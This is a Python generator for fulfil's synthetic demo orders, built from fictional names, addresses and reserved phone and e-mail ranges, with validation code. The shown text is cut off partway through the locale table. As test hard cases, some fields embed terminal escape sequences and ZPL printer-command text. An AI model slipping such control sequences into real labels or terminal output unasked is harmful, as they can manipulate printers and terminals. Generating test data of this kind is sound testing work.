#!/usr/bin/env python3
"""Generate fulfil's synthetic demo orders (data/demo-orders.json).

Every person, address, phone number and e-mail address here is made up:
names are built from placeholder names (Max Mustermann, Jan Kowalski,
山田花子, فلان الفلاني, פלוני אלמוני, ...) and invented surnames, streets are
"Example Road" in a dozen languages, e-mail domains are only example.com,
example.org, example.net or end in .test / .invalid, and phone numbers are
only in ranges reserved for fiction (+44 7700 900xxx, +1 NPA 555-01xx,
+33 6 39 98 xx xx).

The output is deterministic: a fixed seed and a fixed "now"
(2026-11-23T08:00:00Z), so running it twice gives identical bytes. It is
{"orders":[ORDER...]} in the format of DESIGN.md ("ORDER (also the format
of fulfilctl import ...)"), pretty-printed UTF-8 (ensure_ascii=False), one
order per id in ascending order (D-1001, D-1002, ...).

Besides ordinary orders, about every fourth order (among the first ~300)
carries a hand-made hard case: non-ASCII and right-to-left names, bidi
controls (U+202E, U+2066...), apostrophes, ZPL-looking text (^XA^FD...^FS,
~JR), terminal escape sequences (ESC [31m, ESC ]0;...BEL, OSC 52, \\r,
backspace), strings exactly at the byte limits (256 for names and address
lines, 1024 for gift messages, multi-byte characters at the boundary),
empty and missing optional fields. All of them are VALID for the importer;
hostile-but-invalid input is tests/lib/mkorders.py's job.

Before writing, every order is checked against the importer's rules (see
validate_order) and against the synthetic-data rules (e-mail domains,
phone ranges, unique ids/refs, and for demo-sized runs unique names,
address lines, phones and e-mails, so that a byte scan can tell orders
apart). Nothing is written if a check fails.

Usage:
  gen-demo-orders.py [-o FILE|-] [--count N] [--seed S] [--now [WHEN]]
                     [--compact]
  gen-demo-orders.py --check FILE

  -o FILE      write here (default: demo-orders.json next to this script);
               "-" writes to stdout
  --count N    number of orders (default 320); large N is for benchmarks
  --seed S     random seed (default 20261123, the demo's)
  --now [WHEN] base time for ship-by/updated_at: an RFC 3339 time
               (2026-11-23T08:00:00Z) or a date; without WHEN, the current
               time. Default: 2026-11-23T08:00:00Z, never the clock.
  --compact    one order per line (for benchmarks: --count 100000)
  --check FILE validate an existing orders file against the importer's
               rules and exit 0 (valid) or 1

Other scripts import this file by path (tests/lib/mkorders.py does) and use
generate(), validate_order(), check_orders() and dumps_document().
"""

import argparse
import datetime
import json
import os
import re
import random
import sys
import tempfile
import unicodedata

DEMO_SEED = 20261123
DEMO_COUNT = 320
DEFAULT_NOW = "2026-11-23T08:00:00Z"
# Uniqueness of names, address lines, phones and e-mails is enforced only
# up to this many orders (the pools are finite; benchmarks do not need it).
UNIQUE_PII_MAX = 1000

# ---------------------------------------------------------------------------
# Importer limits (DESIGN.md; src/core/orders.h). Byte lengths are UTF-8.

ID_MAX = 64
SERVICE_MAX = 64
SKU_MAX = 64
TEXT_MAX = 256          # names, address lines, city, region, titles, e-mail
POSTCODE_MAX = 32
PHONE_MAX = 32
BIN_MAX = 32
EMAIL_MAX = 256
GIFT_MAX = 1024
ITEMS_MAX = 500
QTY_MAX = 9999
STATUSES = ("unshipped", "shipped", "delivered", "cancelled")
SERVICES = ("Standard", "Express", "Next Day", "Economy")

ORDER_KEYS = ("id", "ref", "status", "ship_by", "service", "updated_at",
              "delivered_at", "items", "ship_to", "buyer_email",
              "gift_message")
ORDER_REQUIRED = ("id", "ref", "status", "ship_by", "service", "updated_at",
                  "items", "ship_to")
ITEM_KEYS = ("sku", "ean", "title", "qty", "bin")
SHIP_TO_KEYS = ("name", "line1", "line2", "city", "region", "postcode",
                "country", "phone")
SHIP_TO_REQUIRED = ("name", "line1", "city", "postcode", "country")

_PRINTABLE_ID = re.compile(r"[\x21-\x7e]{1,64}\Z")
_TIME = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}"
                   r"(?:\.[0-9]{1,9})?Z\Z")
_EAN = re.compile(r"[0-9]{8,14}\Z")
_COUNTRY = re.compile(r"[A-Z]{2}\Z")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")

# ---------------------------------------------------------------------------
# Validation: the importer's rules, as the generator must keep them.


def _utf8_len(s):
    """Byte length of s in UTF-8, or None when s cannot be encoded."""
    try:
        return len(s.encode("utf-8"))
    except UnicodeEncodeError:
        return None


def _check_text(errs, obj, key, path, maxb, required, minb=1):
    """Check obj[key] is a string of minb..maxb UTF-8 bytes without NUL."""
    if key not in obj:
        if required:
            errs.append(path + ": missing")
        return
    v = obj[key]
    if not isinstance(v, str):
        errs.append(path + ": not a string")
        return
    n = _utf8_len(v)
    if n is None:
        errs.append(path + ": not valid UTF-8")
    elif "\x00" in v:
        errs.append(path + ": contains NUL")
    elif n > maxb:
        errs.append("%s: %d bytes, more than %d" % (path, n, maxb))
    elif required and n < minb:
        errs.append(path + ": empty")


def _check_time(errs, obj, key, path, nullable):
    if key not in obj:
        if not nullable:
            errs.append(path + ": missing")
        return
    v = obj[key]
    if v is None and nullable:
        return
    if not isinstance(v, str) or not _TIME.match(v):
        errs.append(path + ": not an RFC 3339 UTC time")
        return
    try:
        datetime.datetime.strptime(v[:19], "%Y-%m-%dT%H:%M:%S")
    except ValueError:
        errs.append(path + ": not a valid date")


def _check_unknown(errs, obj, allowed, path):
    for k in obj:
        if k not in allowed:
            errs.append("%s: unknown key" % (path + "." + k if path else k))


def validate_order(o):
    """Return a list of "field: problem" strings; empty when o is valid.

    These are the importer's rules from the brief/DESIGN.md, plus one
    strictness of ours: no keys outside the documented ORDER format.
    Messages name fields, never values.
    """
    errs = []
    if not isinstance(o, dict):
        return ["order: not an object"]
    _check_unknown(errs, o, ORDER_KEYS, "")
    for k in ORDER_REQUIRED:
        if k not in o:
            errs.append(k + ": missing")
    for k in ("id", "ref"):
        v = o.get(k)
        if k in o and (not isinstance(v, str) or not _PRINTABLE_ID.match(v)):
            errs.append(k + ": not 1..64 printable ASCII without spaces")
    if "status" in o and o["status"] not in STATUSES:
        errs.append("status: not one of " + "|".join(STATUSES))
    _check_time(errs, o, "ship_by", "ship_by", False)
    _check_time(errs, o, "updated_at", "updated_at", False)
    _check_time(errs, o, "delivered_at", "delivered_at", True)
    _check_text(errs, o, "service", "service", SERVICE_MAX, True)
    _check_text(errs, o, "buyer_email", "buyer_email", EMAIL_MAX, False)
    _check_text(errs, o, "gift_message", "gift_message", GIFT_MAX, False)

    items = o.get("items")
    if "items" in o:
        if not isinstance(items, list):
            errs.append("items: not an array")
        elif not 1 <= len(items) <= ITEMS_MAX:
            errs.append("items: count not in 1..%d" % ITEMS_MAX)
        else:
            for i, it in enumerate(items):
                _validate_item(errs, it, "items[%d]" % i)

    st = o.get("ship_to")
    if "ship_to" in o:
        if not isinstance(st, dict):
            errs.append("ship_to: not an object")
        else:
            _validate_ship_to(errs, st)
    return errs


def _validate_item(errs, it, p):
    if not isinstance(it, dict):
        errs.append(p + ": not an object")
        return
    _check_unknown(errs, it, ITEM_KEYS, p)
    _check_text(errs, it, "sku", p + ".sku", SKU_MAX, True)
    if isinstance(it.get("sku"), str) and _CONTROL.search(it["sku"]):
        errs.append(p + ".sku: contains a control character")
    if "ean" in it and (not isinstance(it["ean"], str)
                        or not _EAN.match(it["ean"])):
        errs.append(p + ".ean: not 8..14 digits")
    _check_text(errs, it, "title", p + ".title", TEXT_MAX, True)
    q = it.get("qty")
    if "qty" not in it:
        errs.append(p + ".qty: missing")
    elif (not isinstance(q, int) or isinstance(q, bool)
          or not 1 <= q <= QTY_MAX):
        errs.append(p + ".qty: not an integer in 1..%d" % QTY_MAX)
    _check_text(errs, it, "bin", p + ".bin", BIN_MAX, False)


def _validate_ship_to(errs, st):
    p = "ship_to"
    _check_unknown(errs, st, SHIP_TO_KEYS, p)
    for k in ("name", "line1", "city"):
        _check_text(errs, st, k, p + "." + k, TEXT_MAX, True)
    for k in ("line2", "region"):
        _check_text(errs, st, k, p + "." + k, TEXT_MAX, False)
    _check_text(errs, st, "postcode", p + ".postcode", POSTCODE_MAX, True)
    _check_text(errs, st, "phone", p + ".phone", PHONE_MAX, False)
    if "country" not in st:
        errs.append(p + ".country: missing")
    elif not isinstance(st["country"], str) or not _COUNTRY.match(
            st["country"]):
        errs.append(p + ".country: not two letters A-Z")


# Synthetic-data rules: only made-up contact details.
_EMAIL_DOMAINS = ("example.com", "example.org", "example.net")
_PHONE_RANGES = (
    ("GB", re.compile(r"(?:44|0)7700900([0-9]{3})\Z")),
    ("US", re.compile(r"1?([0-9]{3}55501[0-9]{2})\Z")),
    ("FR", re.compile(r"(?:33|0)63998([0-9]{4})\Z")),
)


def email_is_synthetic(e):
    """True for "" or an address at example.* or a .test/.invalid domain."""
    if e == "":
        return True
    if e.count("@") != 1:
        return False
    dom = e.rsplit("@", 1)[1].lower()
    return (dom in _EMAIL_DOMAINS
            or any(dom.endswith("." + d) for d in _EMAIL_DOMAINS)
            or dom.endswith(".test") or dom.endswith(".invalid"))


def phone_key(p):
    """A canonical key for a fictional-range phone, or None if not one."""
    digits = re.sub(r"[^0-9]", "", p)
    for name, rx in _PHONE_RANGES:
        m = rx.match(digits)
        if m:
            return name + m.group(1)
    return None


def check_orders(orders, unique_pii=False):
    """Check a list of orders; return a list of problems (empty if fine).

    Every order must pass validate_order; ids and refs must be unique;
    e-mails and phones must be synthetic. With unique_pii, names, first
    address lines, phones and e-mails must also differ between orders, and
    no string a PII scan looks for may be part of a plain value.
    """
    problems = []
    blob = plain_text(o for o in orders if isinstance(o, dict)) \
        if unique_pii else ""
    seen = {"id": {}, "ref": {}}
    pii = {"ship_to.name": {}, "ship_to.line1": {}, "ship_to.phone": {},
           "buyer_email": {}}
    for i, o in enumerate(orders):
        label = o.get("id") if isinstance(o, dict) else None
        label = label if isinstance(label, str) else "#%d" % i
        for e in validate_order(o):
            problems.append("order %s: %s" % (label, e))
        if not isinstance(o, dict):
            continue
        for k in ("id", "ref"):
            v = o.get(k)
            if v in seen[k]:
                problems.append("order %s: %s: same as order %s"
                                % (label, k, seen[k][v]))
            seen[k][v] = label
        st = o.get("ship_to") if isinstance(o.get("ship_to"), dict) else {}
        email = o.get("buyer_email")
        if isinstance(email, str) and not email_is_synthetic(email):
            problems.append("order %s: buyer_email: not a reserved domain"
                            % label)
        phone = st.get("phone")
        if isinstance(phone, str) and phone != "" and not phone_key(phone):
            problems.append("order %s: ship_to.phone: not a fictional range"
                            % label)
        if not unique_pii:
            continue
        for f, v in scanned_pii(o):
            if v in blob:
                problems.append("order %s: %s: part of a plain value (id, "
                                "ref, time, SKU, EAN...)" % (label, f))
        vals = {"ship_to.name": st.get("name"), "ship_to.line1":
                st.get("line1"), "buyer_email": email,
                "ship_to.phone": phone_key(phone) if phone else None}
        for f, v in vals.items():
            if not v:
                continue
            if v in pii[f]:
                problems.append("order %s: %s: same as order %s"
                                % (label, f, pii[f][v]))
            pii[f][v] = label
    return problems


# ---------------------------------------------------------------------------
# Catalogue: ~40 products. EANs use the GS1 restricted-circulation prefix 2
# (never a real product) and carry valid check digits.


def gtin_check_digit(body):
    """The GS1 check digit for a string of digits (EAN-8/13, GTIN-14)."""
    total = 0
    for i, ch in enumerate(reversed(body)):
        total += int(ch) * (3 if i % 2 == 0 else 1)
    return str((10 - total % 10) % 10)


def _ean13(i):
    body = "20%05d%05d" % (47000 + 13 * i, (7919 * i) % 100000)
    return body + gtin_check_digit(body)


# (sku, title, bin or None, ean kind: "13", "8", "14" or None)
_PRODUCTS = (
    ("MUG-BLU", "Blue mug", "A-01-03", "13"),
    ("MUG-RED", "Red mug", "A-01-04", "13"),
    ("MUG-BOLD", "Bold \x1b[1mstatement\x1b[0m mug", "A-01-05", "13"),
    ("TEE-GRY-M", "Grey T-shirt, size M", "B-02-01", "13"),
    ("TEE-GRY-L", "Grey T-shirt, size L", "B-02-02", "13"),
    ("TEE-GRY-XL", "Grey T-shirt, Größe XL", "B-02-03", "13"),
    ("HOOD-NVY-L", "Navy hoodie, size L", "B-03-01", "13"),
    ("SOCK-STR-3P", "Striped socks, 3-pack", "B-04-02", "13"),
    ("CAP-BLK", "Black cap", "B-05-01", "13"),
    ("SCARF-WOOL", "Wool scarf, “Łódź winter” pattern", "B-05-04", "13"),
    ("BTL-STEEL-750", "Steel bottle, 750 ml", "C-01-01", "13"),
    ("NOTE-A5-DOT", "A5 dotted notebook", "C-02-02", "13"),
    ("PEN-GEL-10", "Gel pens, black, pack of 10", "C-02-05", "8"),
    ("CABLE-USBC-1M", "USB-C cable, 1 m", "C-03-01", "13"),
    ("CHG-65W", "65 W USB-C charger", "C-03-02", "13"),
    ("HEAD-BT", "Bluetooth headphones", "C-04-01", "13"),
    ("LAMP-LED", "LED desk lamp", "C-04-03", "13"),
    ("CANDLE-LAV", "Lavender candle", "D-01-01", "13"),
    ("TEA-MATCHA", "抹茶 matcha tea tin, 100 g", "D-01-02", "13"),
    ("COFFEE-1KG", "Coffee beans, 1 kg", "D-01-03", "13"),
    ("COFFEE-6X1KG", "Coffee beans, case of 6 × 1 kg", "D-01-04", "14"),
    ("CHOC-70", "Dark chocolate 70 %", "D-02-01", "13"),
    ("HONEY-500", "Wildflower honey, 500 g", "D-02-02", "13"),
    ("PUZ-1000", "1000-piece puzzle “Café de l'Été”", "E-01-01", "13"),
    ("BOOK-ZPL", "Label printing for beginners (^XA ... ^XZ)", "E-01-02",
     "13"),
    ("STICK-TILDE", "Sticker pack ~ and ^ symbols", "E-01-03", "13"),
    ("TORCH-CREME", "Crème brûlée torch", "E-02-01", "13"),
    ("POT-CER-S", "Ceramic plant pot, small", "E-02-02", "13"),
    ("POT-CER-L", "Ceramic plant pot, large", "E-02-03", "13"),
    ("YOGA-MAT", "Yoga mat, 6 mm", "E-03-01", "13"),
    ("DICE-SET", "Dice set (d4–d20)", "E-03-02", "8"),
    ("KNIT-KIT", "Knitting kit for beginners", "E-03-03", "13"),
    ("UMB-BLK", "Folding umbrella, black", "F-01-01", "13"),
    ("TOWEL-BATH", "Bath towel, ivory", "F-01-02", "13"),
    ("GLOVE-GARD", "Gardening gloves", "F-01-03", "13"),
    ("TOY-DUCK", "Rubber duck “Ente Größe M”", "F-02-01", "13"),
    ("CARD-BDAY", "Birthday card", "F-02-02", None),
    ("POSTER-A2", "Poster A2, “Ζωή” typography", None, "13"),
    ("GIFT-WRAP", "Gift wrapping", None, None),
    ("BATT-AA-8", "AA batteries, pack of 8", "F-03-01", "13"),
)


def catalogue():
    """The product list as item templates (no qty)."""
    out = []
    for i, (sku, title, bin_, kind) in enumerate(_PRODUCTS):
        p = {"sku": sku}
        if kind == "13":
            p["ean"] = _ean13(i)
        elif kind == "8":
            body = "2%06d" % (4100 + 37 * i)
            p["ean"] = body + gtin_check_digit(body)
        elif kind == "14":
            body = "1" + _ean13(i)[:12]
            p["ean"] = body + gtin_check_digit(body)
        p["title"] = title
        if bin_:
            p["bin"] = bin_
        out.append(p)
    return out


# ---------------------------------------------------------------------------
# People and places. Names are placeholders or invented; streets say
# "example", "test", "fictitious" in the local language.


def _pc_digits(n):
    return lambda r: "".join(str(r.randrange(10)) for _ in range(n))


def _pc_gb(r):
    area = r.choice(("EX", "LS", "M", "BS", "NR", "S", "AB", "CF", "YO",
                     "CB", "TR", "LL"))
    letters = "ABDEFGHJLNPQRSTUWXYZ"
    return "%s%d %d%s%s" % (area, r.randrange(1, 30), r.randrange(10),
                            r.choice(letters), r.choice(letters))


def _pc_us(r):
    z = "%05d" % r.randrange(10000, 99999)
    if r.random() < 0.3:
        z += "-%04d" % r.randrange(10000)
    return z


def _pc_ie(r):
    key = r.choice(("D02", "D08", "T12", "H91", "V94", "A65"))
    chars = "ACDEFHKNPRTVWXY0123456789"
    return key + " " + "".join(r.choice(chars) for _ in range(4))


def _pc_fmt(fmt):
    """Postcode from a pattern: 9 = digit, A = letter, other kept."""
    def gen(r):
        out = []
        for ch in fmt:
            if ch == "9":
                out.append(str(r.randrange(10)))
            elif ch == "A":
                out.append(r.choice("ABCDEFGHJKLMNPRSTVWXZ"))
            else:
                out.append(ch)
        return "".join(out)
    return gen


def _n(lo, hi):
    return lambda r: r.randrange(lo, hi + 1)


def _line1_house_first(streets):
    return lambda r: "%d %s" % (r.randrange(1, 400), r.choice(streets))


def _line1_house_last(streets, sep=" "):
    return lambda r: "%s%s%d" % (r.choice(streets), sep, r.randrange(1, 200))


def _ar_digits(n):
    return str(n).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))


# Each locale: weight, country, first and last names (a name is either a
# string or (native, romanised) for the e-mail), family_first, how to join,
# line1 maker, line2 choices, (city, region) pairs, postcode maker, phone
# plan.
LOCALES = {
    "GB": dict(
        weight=24, country="GB", phone="GB",
        first=("Harriet", "Rupert", "Imogen", "Barnaby", "Tamsin", "Alfie",
               "Poppy", "Nigel", "Gwendolyn", "Percival", "Clementine",
               "Ptolemy", "Winifred", "Cuthbert", "Rosalind", "Humphrey"),
        last=("Bloggs", "Placeholder", "Testington", "Samplesworth",
              "Fictitious", "Mockford", "Dummington", "Pretendleton",
              "Notreal", "Madeupson", "Examplewright", "Featherstone-Test",
              "Wigglesworth-Sample", "Fakenhurst"),
        line1=_line1_house_first(
            ("Example Road", "Acacia Avenue", "Placeholder Close",
             "Sample Street", "Specimen Crescent", "Testing Lane",
             "Dummy Mews", "Mock Terrace", "Imaginary Gardens",
             "Notreal Row", "Pretend Parade", "Makebelieve Drive")),
        line2=("Flat {n}, Placeholder House", "Floor {n}, Example Court",
               "c/o Example Ltd, Desk {n}", "The Old Rectory Annexe {n}",
               "Unit {n}, Example Park", "Basement Flat {n}, Mock Mansions"),
        cities=(("Exeter", "Devon"), ("Leeds", "West Yorkshire"),
                ("Manchester", "Greater Manchester"), ("Bristol", ""),
                ("Norwich", "Norfolk"), ("Sheffield", "South Yorkshire"),
                ("Aberdeen", "Aberdeenshire"), ("Cardiff", "Glamorgan"),
                ("Truro", "Cornwall"), ("Llandudno", "Conwy"),
                ("Cambridge", "Cambridgeshire")),
        postcode=_pc_gb),
    "IE": dict(
        weight=3, country="IE", phone="GB",
        first=("Siobhán", "Seán", "Aoife", "Pádraig", "Niamh", "Oisín",
               "Caoimhe", "Ciarán", "Órla", "Tadhg"),
        last=("O'Brien-Testwell", "O'Sullivan-Sample", "D'Arcy-Fictious",
              "Mac Samplóir", "Ó Sampla", "O'Placeholder",
              "Ní Shamplóir", "McExample"),
        line1=_line1_house_first(("Sample Street", "Bóthar an Tástála",
                                  "Example Quay", "Fictitious Terrace")),
        line2=("Apartment {n}, Sample House", "The Mews, Unit {n}"),
        cities=(("Dublin 2", "Co. Dublin"), ("Cork", "Co. Cork"),
                ("Galway", "Co. Galway"), ("Waterford", "")),
        postcode=_pc_ie),
    "US": dict(
        weight=12, country="US", phone="US",
        first=("Wilbur", "Hazel", "Dexter", "Mabel", "Otis", "Prudence",
               "Chester", "Loretta", "Jebediah", "Dolores", "Clifford",
               "Bernadette"),
        last=("Doe", "Roe", "Public", "Quackenbush", "Example",
              "Testerman", "Sampleton", "Fakerson", "Nobody",
              "Placeholderberg"),
        line1=_line1_house_first(
            ("Evergreen Terrace", "Fake Street", "Example Ave",
             "Nowhere Rd", "Sample Blvd", "Placeholder Pkwy",
             "Test Drive", "Imaginary Ln")),
        line2=("Apt {n}B, Placeholder Tower", "Suite {n}00, Example Plaza",
               "Unit {n}, Sampleton Lofts", "PO Box 555{n}"),
        cities=(("Springfield", "IL"), ("Anytown", "OR"),
                ("Shelbyville", "IN"), ("Pawnee", "IN"),
                ("Hill Valley", "CA"), ("Smallville", "KS"),
                ("Sunnydale", "CA"), ("Twin Peaks", "WA")),
        postcode=_pc_us),
    "DE": dict(
        weight=8, country="DE",
        first=("Max", "Erika", "Jürgen", "Hans-Günther", "Käthe", "Jörg",
               "Ursula", "Björn", "Sönke", "Mareike", "Dörte", "Ludwig"),
        last=("Mustermann", "Musterfrau", "Beispielmann", "Größe-Weiß",
              "Testmüller", "Platzhalter", "Erfunden", "Übungsberger",
              "Fiktivhäuser"),
        line1=_line1_house_last(
            ("Musterstraße", "Beispielweg", "Erfundene Allee",
             "Am Testgelände", "Platzhalterplatz", "Fiktivgasse",
             "Übungsstraße", "Straße des Beispiels")),
        line2=("Hinterhaus, {n}. OG links", "c/o Beispiel GmbH, Raum {n}",
               "Zimmer {n}, Musterhof", "Gartenhaus {n}, Platzhalterhof"),
        cities=(("Musterstadt", ""), ("München", "Bayern"),
                ("Köln", "Nordrhein-Westfalen"), ("Düsseldorf", ""),
                ("Nürnberg", "Bayern"), ("Würzburg", "Bayern"),
                ("Lübeck", "Schleswig-Holstein"), ("Mönchengladbach", "")),
        postcode=_pc_digits(5)),
    "PL": dict(
        weight=7, country="PL",
        first=("Jan", "Zażółć", "Grzegorz", "Małgorzata", "Łukasz",
               "Żaneta", "Wojciech", "Jadwiga", "Bożydar", "Ścibor"),
        last=("Kowalski", "Przykładowy", "Gęślą-Jaźń", "Zmyślony",
              "Testowy", "Fikcyjna", "Żółwiński", "Źdźbłowski",
              "Wymyślony"),
        line1=_line1_house_last(
            ("ul. Przykładowa", "ul. Źródlana", "ul. Zmyślona",
             "al. Testowa", "ul. Żółwia", "ul. Fikcyjna", "pl. Ćwiczebny")),
        line2=("m. {n}, klatka Przykładowa", "lok. {n}, Dom Testowy",
               "klatka B, m. {n} (blok Zmyślony)"),
        cities=(("Łódź", "łódzkie"), ("Kraków", "małopolskie"),
                ("Gdańsk", "pomorskie"), ("Wrocław", "dolnośląskie"),
                ("Poznań", "wielkopolskie"), ("Białystok", "podlaskie"),
                ("Zielona Góra", "lubuskie"), ("Częstochowa", "śląskie")),
        postcode=_pc_fmt("99-999")),
    "ES": dict(
        weight=6, country="ES",
        first=("José", "María Ángeles", "Íñigo", "Begoña", "Fulano",
               "Mengana", "Zutano", "Nuria", "Sebastián", "Ainhoa"),
        last=("Núñez Peña", "de Tal", "Ibáñez-Ficticio", "Mengánez",
              "Ejemplar Muñoz", "Pruébez", "Zutánez Ordóñez",
              "Imaginaria"),
        line1=lambda r: "%s %d, %dº %s" % (
            r.choice(("Calle Ficticia", "Avenida del Ejemplo",
                      "Calle de la Señora Fulana", "Plaza de Mengano",
                      "Camino de Zutano", "Travesía de la Muestra")),
            r.randrange(1, 120), r.randrange(1, 9),
            r.choice(("izq.", "dcha.", "A", "B"))),
        line2=("Escalera B, puerta {n}, Ficticio",
               "Portal {n}, Edificio Ejemplo", "Bajo {n}, Casa de Mengano"),
        cities=(("Logroño", "La Rioja"), ("A Coruña", "Galicia"),
                ("Cádiz", "Andalucía"), ("Málaga", "Andalucía"),
                ("León", "Castilla y León"),
                ("Alcalá de Henares", "Comunidad de Madrid")),
        postcode=_pc_digits(5)),
    "FR": dict(
        weight=7, country="FR", phone="FR",
        first=("Hélène", "François", "Gaëlle", "Anaïs", "Jérôme", "Maëlys",
               "Benoît", "Noël", "Léonie", "Aurélien"),
        last=("Dupont-Exemple", "Lefèvre-Fictif", "d'Échantillon",
              "Œuvray", "Tout-le-Monde", "L'Imaginaire", "Testard",
              "Bidonville-Martin"),
        line1=lambda r: "%d%s %s" % (
            r.randrange(1, 150), r.choice(("", "", " bis", " ter")),
            r.choice(("rue de l'Exemple", "allée des Fictions",
                      "boulevard Imaginaire", "impasse du Test",
                      "place de l'Échantillon",
                      "chemin des Faux-Semblants"))),
        line2=("Bâtiment C, porte {n}, Résidence Fictive",
               "Appartement {n}, Les Exemples",
               "Résidence Les Essais, lot {n}"),
        cities=(("Besançon", ""), ("Orléans", ""), ("Nîmes", ""),
                ("Saint-Étienne", ""), ("Montbéliard", ""),
                ("Clermont-Ferrand", "Auvergne"),
                ("Paris", "Île-de-France")),
        postcode=_pc_digits(5)),
    "IT": dict(
        weight=4, country="IT",
        first=("Mario", "Niccolò", "Chiara", "Gianluca", "Ilaria",
               "Beatrice", "Tizio", "Caio"),
        last=("Rossi", "Esempio", "Fittizi", "Sempronio", "Prova",
              "Inventato", "D'Angelo-Finto"),
        line1=_line1_house_last(("Via dell'Esempio", "Piazza Tizio",
                                 "Corso Fittizio", "Vicolo della Prova"),
                                ", "),
        line2=("Scala A, interno {n}, Palazzo Esempio",
               "Piano {n}, Condominio Fittizio"),
        cities=(("Forlì", "FC"), ("Cantù", "CO"), ("Perugia", "PG"),
                ("Torino", "TO"), ("Sant'Antioco", "SU")),
        postcode=_pc_digits(5)),
    "NL": dict(
        weight=3, country="NL",
        first=("Jan", "Joost", "Anouk", "Sjoerd", "IJsbrand", "Fenna",
               "Maarten", "Ineke"),
        last=("Modaal", "de Tester", "van Voorbeeld", "Verzonnen",
              "van 't Proefje", "Bedachtsma"),
        line1=_line1_house_last(("Voorbeeldstraat", "Proefweg",
                                 "Verzonnenlaan", "Testgracht")),
        line2=("{n}-hoog, Voorbeeldflat", "Bus {n}, Proefgebouw"),
        cities=(("'s-Hertogenbosch", ""), ("Den Haag", "Zuid-Holland"),
                ("Utrecht", ""), ("Groningen", ""), ("Zwolle", "")),
        postcode=_pc_fmt("9999 AA")),
    "SE": dict(
        weight=3, country="SE",
        first=("Sven", "Åsa", "Björn", "Märta", "Örjan", "Ingrid", "Sture",
               "Linnéa"),
        last=("Svensson", "Medelsvensson", "Exempelsson", "Testström",
              "Låtsasson", "Påhittadsdotter"),
        line1=_line1_house_last(("Exempelgatan", "Påhittade vägen",
                                 "Testgränd", "Låtsasstigen")),
        line2=("Lgh 11{n:02d}, Exempelhuset", "c/o Exempel AB, rum {n}"),
        cities=(("Göteborg", ""), ("Malmö", ""), ("Västerås", ""),
                ("Umeå", ""), ("Jönköping", "")),
        postcode=_pc_fmt("999 99")),
    "TR": dict(
        weight=4, country="TR",
        first=("Çağlar", "Gülşen", "İsmail", "Ayşe", "Şükrü", "Öykü",
               "Ilgın", "Doğan"),
        last=("Işıkoğlu", "Öztürkmen", "Örnekçi", "Denemeoğlu",
              "Hayalîgil", "Şahinörnek", "Falancaoğlu"),
        line1=lambda r: "%s No: %d Daire: %d" % (
            r.choice(("Örnek Sokak", "Hayali Cadde", "Deneme Bulvarı",
                      "Çiçekli Sokak", "Farazi Yokuşu")),
            r.randrange(1, 90), r.randrange(1, 30)),
        line2=("Kat {n}, Örnek Apartmanı", "B Blok, Daire {n}, Deneme Sitesi"),
        cities=(("İstanbul", "Kadıköy"), ("İzmir", "Karşıyaka"),
                ("Eskişehir", "Odunpazarı"), ("Şanlıurfa", "Haliliye"),
                ("Kahramanmaraş", "")),
        postcode=_pc_digits(5)),
    "JP": dict(
        weight=5, country="JP", family_first=True, join=("\u3000", " ", ""),
        first=(("花子", "hanako"), ("太郎", "taro"), ("次郎", "jiro"),
               ("陽菜", "hina"), ("権兵衛", "gonbee"), ("一二三", "hifumi"),
               ("さくら", "sakura"), ("ミドリ", "midori")),
        last=(("山田", "yamada"), ("田中", "tanaka"), ("名無し", "nanashi"),
              ("架空", "kaku"), ("見本", "mihon"), ("試験", "shiken"),
              ("仮名", "kamei")),
        line1=lambda r: "%s%d丁目%d番%d号" % (
            r.choice(("架空町", "見本町", "例示台", "試験坂", "仮想丘")),
            r.randrange(1, 6), r.randrange(1, 30), r.randrange(1, 20)),
        line2=("架空ハイツ{n}02号室", "サンプル荘{n}F", "見本マンション1{n:02d}5"),
        cities=(("千代田区", "東京都"), ("札幌市中央区", "北海道"),
                ("大阪市北区", "大阪府"), ("名古屋市中区", "愛知県"),
                ("福岡市博多区", "福岡県")),
        postcode=_pc_fmt("999-9999")),
    "CN": dict(
        weight=4, country="CN", family_first=True, join=("",),
        first=(("小明", "xiaoming"), ("小红", "xiaohong"), ("大锤", "dachui"),
               ("三", "san"), ("四", "si"), ("五", "wu"), ("晓燕", "xiaoyan"),
               ("建国", "jianguo")),
        last=(("张", "zhang"), ("李", "li"), ("王", "wang"), ("赵", "zhao"),
              ("示例", "shili"), ("测试", "ceshi")),
        line1=lambda r: "%s%d号" % (
            r.choice(("示例路", "测试大道", "虚构街", "样本巷", "假设路")),
            r.randrange(1, 300)),
        line2=("{n}栋2单元501室（示例小区）", "A座12{n:02d}室 测试大厦",
               "{n}号楼 虚构花园"),
        cities=(("上海市", "上海"), ("北京市", "北京"), ("成都市", "四川省"),
                ("广州市", "广东省"), ("杭州市", "浙江省")),
        postcode=_pc_digits(6)),
    "KR": dict(
        weight=2, country="KR", family_first=True, join=("",),
        first=(("길동", "gildong"), ("철수", "cheolsu"), ("영희", "younghee"),
               ("예시", "yesi"), ("민준", "minjun")),
        last=(("홍", "hong"), ("김", "kim"), ("이", "lee"), ("박", "park"),
              ("가상", "gasang")),
        line1=lambda r: "%s %d" % (r.choice(("예시로", "가상길", "시험대로")),
                                   r.randrange(1, 200)),
        line2=("101동 {n}03호 (예시아파트)", "{n}층 가상빌딩"),
        cities=(("서울특별시 종로구", ""), ("부산광역시 해운대구", ""),
                ("대전광역시 유성구", "")),
        postcode=_pc_digits(5)),
    "GR": dict(
        weight=3, country="GR",
        first=(("Γιώργος", "giorgos"), ("Ελένη", "eleni"),
               ("Τάδε", "tade"), ("Δήμητρα", "dimitra"),
               ("Νικόλαος", "nikolaos"), ("Αικατερίνη", "aikaterini")),
        last=(("Παπαδόπουλος-Δείνας", "papadopoulos"),
              ("Δεινοπούλου", "deinopoulou"),
              ("Υποθετικός", "ypothetikos"), ("Δοκιμαστής", "dokimastis"),
              ("Παραδειγματίδης", "paradeigmatidis")),
        line1=_line1_house_last(("Οδός Παραδείγματος", "Λεωφόρος Φανταστική",
                                 "Πλατεία Δοκιμής", "Οδός Υποθετική")),
        line2=("{n}ος όροφος, Πολυκατοικία Δοκιμής",
               "Διαμέρισμα {n}, Κτίριο Παράδειγμα"),
        cities=(("Αθήνα", "Αττική"), ("Θεσσαλονίκη", "Μακεδονία"),
                ("Πάτρα", ""), ("Ηράκλειο", "Κρήτη"), ("Λάρισα", "")),
        postcode=_pc_fmt("999 99")),
    "UA": dict(
